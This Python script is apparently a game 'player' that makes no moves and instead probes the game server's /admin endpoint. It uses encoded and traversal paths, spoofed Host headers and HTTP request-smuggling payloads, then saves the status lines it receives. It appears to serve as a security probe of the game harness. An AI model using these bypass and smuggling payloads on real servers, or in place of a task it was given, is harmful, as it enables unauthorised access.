"""A player that does not play: it tries to administer the game in every way, and tells what it was answered."""

import json
import os
import socket
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

game = urlsplit(os.environ["COWORLD_PLAYER_WS_URL"])
token = parse_qs(game.query)["token"][0]
WEBSOCKET = (
    "Upgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
)
HOSTS = ("127.0.0.1:8080", "localhost", "[::1]:8080", "game")
PATHS = (
    "/admin",
    f"/admin?token={token}",
    f"/admin?slot=0&token={token}",
    "/%61dmin",
    "/%2561dmin",
    "//admin",
    "/./admin",
    "/player/../admin",
    "/admin/",
    "/ADMIN",
    "/admin;x=1",
    "\\admin",
    "http://127.0.0.1:8080/admin",
    "/client/admin",
    "/clients/admin",
    "/client/admin.html",
)


def ask(*requests):
    """Send requests over one connection; the status lines that come back."""
    with socket.create_connection((game.hostname, game.port), timeout=5) as end:
        end.settimeout(2)
        data = b""
        try:
            for request in requests:
                end.sendall(request.encode())
            while block := end.recv(65536):
                data += block
                if b" 101 " in data.split(b"\r\n", 1)[0] and len(requests) == 1:
                    break
        except OSError:
            pass
    return [line.decode("latin-1") for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.")]


answers = {}
for host in HOSTS:
    for path in PATHS:
        for kind, more in (("page", ""), ("socket", WEBSOCKET)):
            request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nOrigin: http://{host}\r\n{more}\r\n"
            answers[f"{kind} {host} {path}"] = ask(request)
page = "GET /healthz HTTP/1.1\r\nHost: game\r\nConnection: keep-alive\r\n"
hidden = f"GET /admin HTTP/1.1\r\nHost: game\r\n{WEBSOCKET}\r\n"
answers["second request"] = ask(f"{page}\r\n", hidden)
answers["pipelined request"] = ask(f"{page}\r\n{hidden}")
answers["behind a websocket that is refused"] = ask(f"GET /player?slot=0&token=bad HTTP/1.1\r\n{WEBSOCKET}\r\n{hidden}")
answers["body that is a request"] = ask(f"{page}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}")
answers["two lengths"] = ask(f"{page}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}")
answers["bare line feeds"] = ask(f"GET /healthz HTTP/1.1\nHost: game\n\n{hidden}")
answers["folded header"] = ask(f"{page}X: y\r\n z: GET /admin\r\n\r\n")
answers["other protocol"] = ask(f"{page.replace('Connection: keep-alive', 'Connection: Upgrade')}Upgrade: h2c\r\n\r\n")
answers["health"] = ask(f"{page}\r\n")
Path(urlsplit(os.environ["COWORLD_PLAYER_ARTIFACT_UPLOAD_URL"]).path).write_text(json.dumps(answers))
raise SystemExit(11)
